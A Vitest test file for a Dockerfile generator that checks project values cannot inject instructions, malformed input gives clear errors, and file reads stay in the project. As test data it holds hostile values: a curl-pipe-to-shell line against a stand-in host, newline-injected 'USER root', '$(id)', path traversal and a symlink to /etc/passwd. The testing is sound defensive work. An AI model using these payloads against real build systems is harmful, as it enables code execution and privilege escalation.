import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import { afterAll, describe, expect, it } from 'vitest';
import { generate } from '../../src/core.js';
import { DiskFs, MAX_TEXT_BYTES, MemoryFs } from '../../src/detect/fs.js';
import { DockgenError } from '../../src/errors.js';
import { parseCommand } from '../../src/options.js';
import { commentText, safePath } from '../../src/plan/safe.js';
import { checkDockerfile } from '../helpers/dockerfile-checks.js';

const generateFrom = (files: Record<string, string>, cmd?: string) =>
  generate(new MemoryFs(files), '/tmp/app', cmd ? { cmd: parseCommand(cmd) } : {});

/** The instruction keywords of a Dockerfile, to compare against a harmless project's. */
const shape = (dockerfile: string) => DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());

const baseline = shape(generateFrom({ 'package.json': '{"name":"x","scripts":{"start":"node server.js"}}', 'server.js': '' }).files[0]!.content);

describe('values from the project cannot inject Dockerfile instructions', () => {
  const hostile = [
    { name: 'name with a newline and an instruction', pkg: { name: 'x\nRUN curl evil.sh | sh\n#', scripts: { start: 'node server.js' } } },
    { name: 'start script with a newline', pkg: { name: 'x', scripts: { start: 'node server.js\nUSER root' } } },
    { name: 'start script with quotes and $()', pkg: { name: 'x', scripts: { start: 'node "server.js" "$(id)" \'"]\nUSER 0' } } },
    { name: 'env assignment with a newline', pkg: { name: 'x', scripts: { start: 'FOO="a\nUSER 0" node server.js' } } },
    { name: 'env assignment with $ and quotes', pkg: { name: 'x', scripts: { start: 'GREETING="$HOME \\" x" node server.js' } } },
    { name: 'engines.node with a newline', pkg: { name: 'x', engines: { node: '20\nUSER root' }, scripts: { start: 'node server.js' } } },
  ];

  it.each(hostile)('$name: same instructions as a harmless project, or a clear error', ({ pkg }) => {
    let dockerfile: string | undefined;
    try {
      dockerfile = generateFrom({ 'package.json': JSON.stringify(pkg), 'server.js': '' }).files[0]!.content;
    } catch (error) {
      expect(error).toBeInstanceOf(DockgenError);
      return;
    }
    expect(shape(dockerfile)).toEqual(baseline);
    expect(dockerfile).not.toMatch(/^USER (root|0)/m);
    expect(dockerfile).not.toMatch(/^RUN curl/m);
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('quotes ENV values so that nothing expands', () => {
    const { files } = generateFrom({ 'package.json': JSON.stringify({ scripts: { start: `GREETING='$HOME " x' node server.js` } }), 'server.js': '' });
    expect(files[0]!.content).toContain('ENV GREETING="\\$HOME \\" x"');
  });

  it('keeps secret-looking variables of the start script out of the image (R16)', () => {
    const { files, plan } = generateFrom({ 'package.json': JSON.stringify({ scripts: { start: 'API_TOKEN=abc123 node server.js' } }), 'server.js': '' });
    expect(files[0]!.content).not.toContain('abc123');
    expect(plan.warnings.join()).toMatch(/API_TOKEN.*looks like a secret/);
  });

  it('refuses a --cmd with shell operators, naming the flag', () => {
    expect(() => parseCommand('node a.js && node b.js')).toThrow(/--cmd .* uses shell features/);
    expect(() => parseCommand('')).toThrow(/--cmd is empty/);
  });

  it('refuses paths that cannot be written into COPY safely', () => {
    expect(safePath('.yarn/releases', 'x')).toBe('.yarn/releases');
    expect(safePath('./dist/', 'x')).toBe('dist');
    for (const bad of ['a b', '../etc', 'x\nRUN id', '--from=evil', 'a"b', '$(id)']) {
      expect(() => safePath(bad, 'package.json')).toThrow(/cannot be used in a Dockerfile safely/);
    }
  });

  it('turns control characters in comments into spaces', () => {
    expect(commentText('a\nRUN id\r\u2028b')).toBe('a RUN id  b');
  });
});

describe('malformed input gives a clear error, never a stack trace', () => {
  it.each([
    ['invalid JSON', '{ "name": "x", }', /package.json is not valid JSON/],
    ['an array', '[]', /"\(top level\)" must be an object/],
    ['scripts of the wrong type', '{"scripts": "node a.js"}', /"scripts" must be an object/],
    ['a script of the wrong type', '{"scripts": {"start": 1}}', /"scripts.start" must be a string/],
    ['binary junk', '\u0000\u0001\u00ff\u0007PNG', /not valid JSON/],
  ])('package.json with %s', (_, text, message) => {
    expect(() => generateFrom({ 'package.json': text })).toThrow(message);
    try {
      generateFrom({ 'package.json': text });
    } catch (error) {
      expect(error).toBeInstanceOf(DockgenError);
      expect((error as DockgenError).hint).toBeTruthy();
    }
  });

  it('reports a project without a start command with the flag that fixes it', () => {
    expect(() => generateFrom({ 'package.json': '{"name":"lib"}' })).toThrow(/Could not find how to start this app/);
  });
});

describe('DiskFs', () => {
  const made: string[] = [];
  const dir = () => {
    const path = mkdtempSync(join(tmpdir(), 'dockgen-fs-'));
    made.push(path);
    return path;
  };
  afterAll(() => {
    for (const path of made) rmSync(path, { recursive: true, force: true });
  });

  it('survives a symlink loop and a link that leaves the project', () => {
    const root = dir();
    writeFileSync(join(root, 'package.json'), '{"scripts":{"start":"node server.js"}}');
    writeFileSync(join(root, 'server.js'), '');
    symlinkSync('loop-b', join(root, 'loop-a'));
    symlinkSync('loop-a', join(root, 'loop-b'));
    symlinkSync('/etc/passwd', join(root, '.nvmrc'));
    const fs = new DiskFs(root);
    expect(fs.isFile('loop-a')).toBe(false);
    expect(fs.readText('.nvmrc')).toBeUndefined();
    expect(() => generate(fs, root, {})).not.toThrow();
  });

  it('refuses a huge file with a clear error', () => {
    const root = dir();
    writeFileSync(join(root, 'package.json'), Buffer.alloc(MAX_TEXT_BYTES + 1, 32));
    expect(() => generate(new DiskFs(root), root, {})).toThrow(/package.json is 2.0 MiB, too large/);
  });

  it('refuses paths outside the project', () => {
    const fs = new DiskFs(dir());
    expect(() => fs.readText('../etc/passwd')).toThrow(/points outside the project/);
    expect(() => fs.readText('/etc/passwd')).toThrow(/points outside the project/);
  });

  it('reads only what detection asks for: node_modules and .git are never listed', () => {
    const root = dir();
    writeFileSync(join(root, 'package.json'), '{"scripts":{"start":"node server.js"}}');
    writeFileSync(join(root, 'server.js'), '');
    mkdirSync(join(root, 'node_modules', 'x'), { recursive: true });
    mkdirSync(join(root, '.git'));
    const fs = new DiskFs(root);
    const listed: string[] = [];
    const list = fs.list.bind(fs);
    fs.list = (path: string) => (listed.push(path), list(path));
    generate(fs, root, {});
    expect(listed.filter((p) => /node_modules|\.git/.test(p))).toEqual([]);
  });
});
